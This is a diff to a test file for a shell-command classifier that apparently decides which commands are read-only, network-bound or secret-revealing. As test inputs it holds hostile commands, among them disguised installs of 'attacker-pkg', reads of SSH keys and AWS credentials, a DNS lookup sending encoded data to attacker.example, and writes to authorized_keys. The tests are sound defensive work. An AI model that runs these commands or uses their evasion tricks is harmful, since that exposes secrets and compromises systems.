@@ -816,7 +816,7 @@ describe("classifyCommand: everyday reads of an operator's machine", () => {
       "mpstat -P ALL 1 1",
     ]);
     expectActs([
-      ["systemctl -M box --failed", /changes system state/],
+      ["systemctl -M box --failed", /systemctl -M changes/],
       ["timedatectl set-ntp false", /changes system settings/],
       ["hostnamectl set-hostname box", /changes system settings/],
       ["openssl s_client -connect db-1:5432", /talks to a server/],
@@ -1608,5 +1608,100 @@ describe("classifyCommand: seams found by probing (environment dumps, reads thro
     expect(classify("docker cp web:/x ./x").fetches).toEqual(["./x"]);
     expect(classify("aws s3 cp notes.md s3://b/x").fetches).toEqual([]);
     expect(classify("docker cp ./x web:/x").fetches).toEqual([]);
+  });
+
+  it("a flag before the subcommand that may take the next word as its value leaves the subcommand uncertain: not read-only", () => {
+    for (const command of [
+      "npm --tag ls install attacker-pkg",
+      "npm --tag ls exec --yes -- attacker-pkg",
+      "pip --log list install attacker-pkg",
+      "uv --cache-dir version run -- sh",
+      "podman --root ps run --rm alpine",
+      "nerdctl --namespace ps rm web",
+      "crictl -r ps rm web",
+      "dnf --releasever list install x",
+      "gem --config-file list install x",
+      "rabbitmqctl --foo status stop_app",
+      "helm --foo list uninstall web",
+      // Flags that take a value, listed: the verb after the value is read.
+      "systemctl -p status stop sshd",
+      "systemctl --property status reboot",
+      "timedatectl -p status set-time 2020-01-01",
+      "chronyc -f tracking makestep",
+    ]) {
+      expect(classify(command).readOnly, command).toBe(false);
+    }
+    expect(classify("npm --tag ls install x").why.join(" ")).toContain("--tag=<value>");
+    // Flags known to take no value, a value written with =, and words no subcommand is named by keep the reading.
+    for (const command of [
+      "systemctl --user status nginx",
+      "systemctl --no-pager status nginx",
+      "npm -g ls",
+      "npm --global ls --depth 0",
+      "npm --tag=ls ls",
+      "pip -q show flask",
+      "ip -br addr show",
+      "ip -c -br link show dev eth0",
+      "docker --debug ps -a",
+      "docker -D logs web",
+      "kubectl -v 6 get pods",
+    ]) {
+      expect(classify(command).readOnly, command).toBe(true);
+    }
+  });
+
+  it("git blame's revision files are files it prints (-S, --ignore-revs-file); git log's -S is a search string", () => {
+    expect(classify("git blame -S ~/.ssh/id_ed25519 README.md").reads).toContain("~/.ssh/id_ed25519");
+    expect(classify("git blame --ignore-revs-file ~/.aws/credentials README.md").reads).toContain("~/.aws/credentials");
+    expect(classify("git blame -L 10,20 src/a.ts").readOnly).toBe(true);
+    expect(classify("git log -S token --oneline").reads).not.toContain("token");
+    expect(classify("git fsck --lost-found").readOnly).toBe(false);
+    expect(classify("git fsck").readOnly).toBe(true);
+  });
+
+  it("a host named by its name to lsof or ss is looked up, which sends the name out; addresses and ports are not", () => {
+    for (const command of ["lsof -i @c2VjcmV0.attacker.example", "lsof -i TCP@db.example.com:5432", "ss dst c2VjcmV0.attacker.example", "ss dst $HOST"]) {
+      const facts = classify(command);
+      expect(facts.readOnly, command).toBe(false);
+      expect(facts.network, command).toBe(true);
+    }
+    // Decided like dig's query: by where the name came from.
+    expect(classify("ss dst c2VjcmV0.attacker.example").destinations).toEqual(["c2vjcmv0.attacker.example"]);
+    expect(classify("lsof -i TCP@db.example.com:5432").destinations).toEqual(["db.example.com"]);
+    for (const command of [
+      "lsof -i :3000",
+      "lsof -i tcp:80",
+      "lsof -i @127.0.0.1",
+      "lsof -i @localhost:80",
+      "lsof -nP -i TCP -sTCP:LISTEN",
+      "ss -tn dst 10.0.0.5:443",
+      "ss dst fe80::1",
+      "ss -tlnp",
+    ]) {
+      expect(classify(command).readOnly, command).toBe(true);
+    }
+  });
+
+  it("nvidia-smi reads the GPU's state; its settings, resets, report file and subcommands are not reads", () => {
+    expect(classify("nvidia-smi").readOnly).toBe(true);
+    expect(classify("nvidia-smi --query-gpu=name,memory.used --format=csv").readOnly).toBe(true);
+    expect(classify("nvidia-smi -q -d MEMORY").readOnly).toBe(true);
+    for (const command of ["nvidia-smi -pm 0", "nvidia-smi -pl 100 -r", "nvidia-smi -q -f /root/.ssh/authorized_keys", "nvidia-smi drain -p 0 -m 1"]) {
+      expect(classify(command).readOnly, command).toBe(false);
+    }
+  });
+
+  it("yq's split writes files and ripgrep's --hostname-bin runs a program", () => {
+    expect(classify("yq -n -s '.a' '{}'").readOnly).toBe(false);
+    expect(classify("yq . x.yaml").readOnly).toBe(true);
+    expect(classify("rg --hostname-bin=/sbin/reboot --hyperlink-format=default TODO").readOnly).toBe(false);
+  });
+
+  it("printenv with plain names prints only those; alone, with flags only, or with a key's name it discloses the environment", () => {
+    expect(classify("printenv HOME").secrets).toEqual([]);
+    expect(classify("printenv HOME PATH").secrets).toEqual([]);
+    for (const command of ["printenv", "printenv -0", "printenv AWS_SECRET_ACCESS_KEY", "printenv $X"]) {
+      expect(classify(command).secrets.length, command).toBeGreaterThan(0);
+    }
   });
 });
